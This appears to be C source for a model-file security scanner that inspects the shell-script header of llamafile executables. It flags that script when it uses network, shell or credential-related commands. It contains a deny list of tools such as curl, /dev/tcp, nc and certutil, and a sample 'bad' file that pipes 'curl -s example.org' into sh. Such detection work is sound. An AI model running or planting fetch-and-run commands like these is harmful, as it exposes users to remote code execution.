/* llamafile: llama.cpp and a model in one Actually Portable Executable (Cosmopolitan): a file that
 * is a PE program, a shell script that brings forth an ELF program, and a ZIP archive with the
 * weights. It is a program by its nature; what its shell script may do beyond starting itself is
 * known, and everything else is reported. The archive is for the ZIP format. */
#include "base/cur.h"
#include "base/limits.h"
#include "engine/model.h"
#include "engine/rule.h"
#include "model/program.h"
#include "rules/model/graph.h"

#define TAGS "OWASP-ML06 OWASP-LLM03 ATLAS-AML.T0010 ATLAS-AML.T0011"
#define SCRIPT_BYTES ((size_t)64 * 1024)

/* What Cosmopolitan's loader script never does. */
static const char foreign[] =
	"curl|wget|/dev/tcp|base64|eval |bash "
	"-i|python|perl|ruby|nohup|crontab|/etc/|http://|https://|"
	"ssh |nc -|ncat|socat|powershell|rm -rf|sudo |LD_PRELOAD|xattr -d|launchctl|systemctl|"
	".bashrc|.ssh|openssl|xxd|mkfifo|telnet|certutil|bitsadmin|mshta";

static str script_of(str head)
{
	size_t end = str_find(str_slice(head, 8, head.n), S("\n'"));
	str rest;

	if (end == STR_NONE)
		end = str_find_byte(str_slice(head, 8, head.n), '\'');
	if (end == STR_NONE)
		return (str){NULL, 0};
	/* The script ends where bytes begin that no script has. */
	rest = str_slice(head, 8 + end + 1, head.n);
	return str_slice(rest, 0, str_find_byte(rest, 0));
}

/* The PE header that every such file has, so that Windows starts it. */
static bool has_pe_header(str head)
{
	struct cur c = cur_of(head);
	uint32_t at;

	cur_seek(&c, 0x3c);
	at = cur_u32le(&c);
	cur_seek(&c, at);
	return str_eq(cur_bytes(&c, 4), S("PE\0\0"));
}

static void check_llamafile(struct model *m)
{
	str head = blob_get(m->blob, m->arena, 0, SCRIPT_BYTES), script = script_of(head);
	bool loader =
		str_find(script, S("ape")) != STR_NONE && str_find(script, S("exec ")) != STR_NONE;

	model_property(m, "format", S("llamafile"));
	model_unsafe_format(m);
	for (str rest = str_of(foreign), word; rest.p != NULL;) {
		word = str_cut(&rest, '|');
		if (str_find(script, word) == STR_NONE)
			continue;
		model_finding(m, "MD402", 0, word, "the shell script at its beginning has %.*s",
			      STR_ARG(graph_show(m, word)));
	}
	if (!has_pe_header(head) || !loader)
		model_finding(m, "MD402", 0, S("header"),
			      "a shell script in the guise of a portable program: %s",
			      !has_pe_header(head) ? "the program itself is missing"
						   : "its script does not start the program");
	model_finding(m, "MD403", 0, (str){NULL, 0},
		      "a model that is a program: it runs with your rights");
}

static unsigned recognise(UNUSED const struct settings *s, const struct peek *p)
{
	return program_recognise(p->head, p->size) == PROGRAM_APE ? 85 : 0;
}

const struct format format_llamafile = {
	.name = "llamafile",
	.layer = LAYER_MODELS,
	.recognise = recognise,
	.model = check_llamafile,
};

const struct rule rules_llamafile[] = {
	{
		.id = "MD402",
		.name = "llamafile_script",
		.severity = HIGH,
		.confidence = HIGH,
		.cwe = {506, 78},
		.tags = TAGS,
		.title = "The script of a portable program does something of its own",
		.why = "Whoever starts the file runs this script first. That of Cosmopolitan does "
		       "nothing but unpack and start the program.",
		.fix = "Do not start the file. Take the weights out of the archive and run them "
		       "with "
		       "a llama.cpp of your own.",
		.lang = "file:model.llamafile",
		.bad = "MZqFpD='\n\n'\ncurl -s example.org | sh; exit\n",
		.good = "#!/bin/sh\nexit\n",
	},
	{
		.id = "MD403",
		.name = "llamafile",
		.severity = INFO,
		.confidence = HIGH,
		.cwe = {829},
		.tags = TAGS,
		.title = "A model that is a program",
		.why = "A llamafile runs machine code of whoever built it, not only the weights.",
		.fix = "Take it from its publisher only and compare its hash; or take the weights "
		       "out and run them with a llama.cpp of your own.",
		.lang = "file:model.llamafile",
		.bad = "MZqFpD='\n\n'\nexec ape\n",
		.good = "#!/bin/sh\nexit\n",
	},
	{0},
};
